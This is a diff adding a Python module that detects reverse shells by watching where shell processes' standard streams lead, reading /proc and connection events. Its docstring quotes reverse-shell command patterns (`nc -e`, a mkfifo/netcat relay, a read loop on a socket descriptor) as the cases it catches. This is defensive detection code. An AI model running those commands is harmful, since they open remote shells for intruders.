@@ -1,0 +1,258 @@
+"""Watching shells until it is known where their standard streams lead.
+
+A tie may be there at the exec (`nc -e`), come a moment later (in `mkfifo f; sh <f | nc host port >f` the connection
+opens after the shell started), or show only when a child answers (`cat <&5 | while read c; do $c >&5; done`). So a
+shell whose streams are channels is looked at when it starts, a few times soon after, when a process of the task
+opens a connection, and when it ends.
+
+A look reads /proc of other processes, which costs about 0.3 ms each: `look` is an argument, the relatives are read
+first, and a budget bounds how much of the engine's time goes into it.
+"""
+
+from collections.abc import Callable, Iterable, Mapping, Sequence
+from typing import Final
+
+from msgspec import Struct
+
+from outrider_sidecar.world.lineage import FoundTie, Graph, Held, feeding_connection, find_tie
+from outrider_sidecar.world.shells import Shells, reads_commands_from_stdin
+from outrider_sidecar.world.tree import Process, ProcessTree
+from outrider_wire.events import (
+    ConnectionOpened,
+    Descriptor,
+    Direction,
+    ProcessId,
+    SocketFacts,
+    StdioTied,
+)
+
+LOOKS_AFTER_S: Final = (0.0, 0.02, 0.06, 0.16, 0.3, 0.6, 1.2, 2.5)
+"""When a shell is looked at after it started; later only when a connection opens."""
+PERSISTED_AFTER_S: Final = 0.15
+"""A channel to a program with one connection must have lasted so long to count as a relay."""
+MAX_WATCHED: Final = 512
+"""Most shells watched; past that the oldest are let go, and counted."""
+MAX_SYNS: Final = 8_192
+MAX_BUSY_SHARE: Final = 0.2
+"""Most of the engine's time that looks may take, over a second; a look beyond it waits for a later tick."""
+
+Look = Callable[[Iterable[Process]], tuple[list[Held], Mapping[int, SocketFacts]]]
+"""Read what these processes hold now, and the facts of all sockets among it."""
+
+Monotonic = Callable[[], float]
+
+
+class Watched(Struct):
+    """A shell whose streams are channels that led nowhere remote yet."""
+
+    process: Process
+    since_s: float
+    looks: int = 0
+    uncertain_since_s: float = 0.0
+    uncertain: FoundTie | None = None
+
+
+class TieTracker:
+    """Finds reverse shells' ties. Belongs to the engine's thread; `tick` is called every few milliseconds."""
+
+    def __init__(self, tree: ProcessTree, shells: Shells, look: Look, *, clock: Monotonic) -> None:
+        self._tree = tree
+        self._shells = shells
+        self._look = look
+        self._clock = clock
+        self._watched: dict[ProcessId, Watched] = {}
+        self._told: dict[tuple[ProcessId, int], str] = {}
+        self._syns: dict[tuple[str, int, str, int], None] = {}
+        self._due_connection = False
+        self._busy_until_s = 0.0
+        self.let_go = 0
+
+    @property
+    def restless(self) -> bool:
+        """Whether a look is due soon."""
+        return self._due_connection or any(w.looks < len(LOOKS_AFTER_S) for w in self._watched.values())
+
+    def executed(self, process: Process, at_ns: int) -> list[StdioTied]:
+        """Judge a program at its start; begin to watch it where only a later look can tell."""
+        direct = _direct_tie(process)
+        is_shell = bool(process.stdio) and _has_channel(process.stdio) and self._shells.is_shell(process)
+        if direct is not None and (is_shell or direct.certain):
+            return self._tell(process, direct, at_ns)
+        if is_shell and reads_commands_from_stdin(process.argv) and process.script is None:
+            self._watch(process)
+            return self._look_at([self._watched[process.id]], at_ns)
+        if direct is None and (answering := _answers_to_socket(process)):
+            return self._answered(process, answering, at_ns)
+        return []
+
+    def connected(self, event: ConnectionOpened) -> None:
+        """Learn who opened a connection; shells are looked at on the next tick."""
+        if len(self._syns) >= MAX_SYNS:
+            del self._syns[next(iter(self._syns))]
+        self._syns[event.source, event.source_port, event.destination, event.destination_port] = None
+        owner = self._tree.get(event.owner)
+        if owner is not None and event.direction != "inbound" and self._shells.is_shell(owner):
+            self._watch(owner)
+        self._due_connection = True
+
+    def exited(self, process: Process, at_ns: int) -> list[StdioTied]:
+        """A shell's last descriptors, or a relay's, may tie what no look was in time for."""
+        watched = self._watched.pop(process.id, None)
+        if watched is not None:
+            found = self._look_at([watched], at_ns)
+            if not found and watched.uncertain is not None:
+                return self._tell(process, watched.uncertain, at_ns)
+            return found
+        if any(s.protocol == "tcp" for s in process.held_sockets) and self._watched:
+            return self._look_at(list(self._watched.values()), at_ns)
+        return []
+
+    def tick(self, at_ns: int) -> list[StdioTied]:
+        """Take the looks that are due."""
+        now_s = self._clock()
+        if now_s < self._busy_until_s:
+            return []
+        due = [w for w in self._watched.values() if self._due_connection or _is_due(w, now_s)]
+        self._due_connection = False
+        return self._look_at(due, at_ns) if due else []
+
+    def direction_of(self, connection: SocketFacts) -> Direction:
+        """Who sent the SYN: as the tap saw it, else as the ports suggest."""
+        ours = (connection.local, connection.local_port)
+        theirs = (connection.remote, connection.remote_port)
+        if (*ours, *theirs) in self._syns:
+            return "outbound"
+        return "inbound" if (*theirs, *ours) in self._syns else connection.direction
+
+    def _watch(self, process: Process) -> None:
+        if len(self._watched) >= MAX_WATCHED and process.id not in self._watched:
+            del self._watched[next(iter(self._watched))]
+            self.let_go += 1
+        self._watched.setdefault(process.id, Watched(process, self._clock()))
+
+    def _look_at(self, watched: Sequence[Watched], at_ns: int) -> list[StdioTied]:
+        """One look for several shells: their relatives first, then everybody."""
+        started_s = self._clock()
+        found: list[StdioTied] = []
+        rest = list(watched)
+        for reach in (self._relatives(rest), self._everybody()):
+            if not rest:
+                break
+            held, sockets = self._look(reach)
+            graph = Graph([*held, *self._ended()], dict(sockets) | self._ended_sockets())
+            rest = [w for w in rest if not self._judge(w, graph, found, at_ns)]
+        for one in watched:
+            one.looks += 1
+        took_s = self._clock() - started_s
+        self._busy_until_s = started_s + took_s / MAX_BUSY_SHARE if took_s > 0.005 else 0.0
+        return found
+
+    def _judge(self, watched: Watched, graph: Graph, found: list[StdioTied], at_ns: int) -> bool:
+        """True where the shell was tied with certainty and need not be looked at again."""
+        shell = graph.of(watched.process.id) or _as_held(watched.process)
+        now_s = self._clock()
+        lasted_s = now_s - watched.uncertain_since_s if watched.uncertain is not None else 0.0
+        tie = find_tie(shell, graph, persisted=lasted_s >= PERSISTED_AFTER_S)
+        if tie is None:
+            return False
+        if not tie.certain:
+            if watched.uncertain is None:
+                watched.uncertain, watched.uncertain_since_s = tie, now_s
+            return False
+        found.extend(self._tell(watched.process, tie, at_ns))
+        return tie.tie != "pipe-near-socket"
+
+    def _answered(self, child: Process, socket: SocketFacts, at_ns: int) -> list[StdioTied]:
+        """A child writes to a connection: is its shell fed by the same one?"""
+        shell = self._tree.get(child.parent)
+        if shell is None or not self._shells.is_shell(shell):
+            return []
+        relatives = [shell, *(p for p in self._tree.living() if p.parent in (shell.id, shell.parent))]
+        held, sockets = self._look(relatives)
+        graph = Graph([*held, *self._ended()], {socket.inode: socket} | dict(sockets) | self._ended_sockets())
+        feeding = feeding_connection(graph.of(shell.id) or _as_held(shell), graph)
+        if feeding is None or (feeding.remote, feeding.remote_port) != (socket.remote, socket.remote_port):
+            return []
+        via = (f"commands read from the connection, answers written to it by pid {child.id.pid}",)
+        return self._tell(shell, FoundTie("socket", feeding, shell.id, via), at_ns)
+
+    def _tell(self, process: Process, tie: FoundTie, at_ns: int) -> list[StdioTied]:
+        key = (process.id, tie.connection.inode)
+        if self._told.get(key) == tie.tie or self._inherited(process, tie.connection.inode):
+            return []
+        if len(self._told) >= MAX_SYNS:
+            del self._told[next(iter(self._told))]
+        self._told[key] = tie.tie
+        connection = tie.connection
+        return [
+            StdioTied(
+                at_ns,
+                process.id,
+                tie.tie,
+                self.direction_of(connection),
+                holder=tie.holder,
+                local=connection.local,
+                local_port=connection.local_port,
+                remote=connection.remote,
+                remote_port=connection.remote_port,
+                via=tie.via,
+            )
+        ]
+
+    def _inherited(self, process: Process, inode: int) -> bool:
+        """An ancestor was already told of with the same connection: what it starts has it from there."""
+        return any((ancestor.id, inode) in self._told for ancestor in self._tree.ancestors(process))
+
+    def _relatives(self, watched: Iterable[Watched]) -> list[Process]:
+        near: dict[ProcessId, Process] = {}
+        living = self._tree.living()
+        for one in watched:
+            shell = one.process
+            near[shell.id] = shell
+            for process in living:
+                kin = process.parent in (shell.id, shell.parent) or process.id == shell.parent
+                if kin or (shell.sid and process.sid == shell.sid):
+                    near[process.id] = process
+        return list(near.values())
+
+    def _everybody(self) -> list[Process]:
+        return self._tree.living()
+
+    def _ended(self) -> list[Held]:
+        return [_as_held(p) for p in self._tree.recent_dead(limit=64) if p.held]
+
+    def _ended_sockets(self) -> dict[int, SocketFacts]:
+        return {s.inode: s for p in self._tree.recent_dead(limit=64) for s in p.held_sockets}
+
+
+def _is_due(watched: Watched, now_s: float) -> bool:
+    return watched.looks < len(LOOKS_AFTER_S) and now_s - watched.since_s >= LOOKS_AFTER_S[watched.looks]
+
+
+def _as_held(process: Process) -> Held:
+    """What a process held, by the records: at its end, or at its exec."""
+    return Held(process.id, process.held or process.stdio, process.mnt_ns)
+
+
+def _has_channel(stdio: tuple[Descriptor, ...]) -> bool:
+    source = next((d for d in stdio if d.fd == 0), None)
+    return source is not None and (
+        source.fifo or source.target.startswith(("socket:[", "pipe:[", "/dev/pts/", "/dev/tty", "/dev/console"))
+    )
+
+
+def _direct_tie(process: Process) -> FoundTie | None:
+    """Standard input and output are one and the same connection; certain for any program, not only a shell."""
+    facts = {s.inode: s for s in process.sockets if s.protocol != "unix" and s.remote_port}
+    inodes = {d.fd: d.inode for d in process.stdio if d.target.startswith("socket:[")}
+    source, sink = facts.get(inodes.get(0, -1)), facts.get(inodes.get(1, -1)) or facts.get(inodes.get(2, -1))
+    if source is None or sink is None:
+        return None
+    if source.inode != sink.inode and (source.remote, source.remote_port) != (sink.remote, sink.remote_port):
+        return None
+    return FoundTie("socket", source, process.id, ("descriptors 0 and 1 are the connection",))
+
+
+def _answers_to_socket(process: Process) -> SocketFacts | None:
+    inodes = {d.inode for d in process.stdio if d.fd in (1, 2) and d.target.startswith("socket:[")}
+    return next((s for s in process.sockets if s.inode in inodes and s.protocol != "unix" and s.remote_port), None)
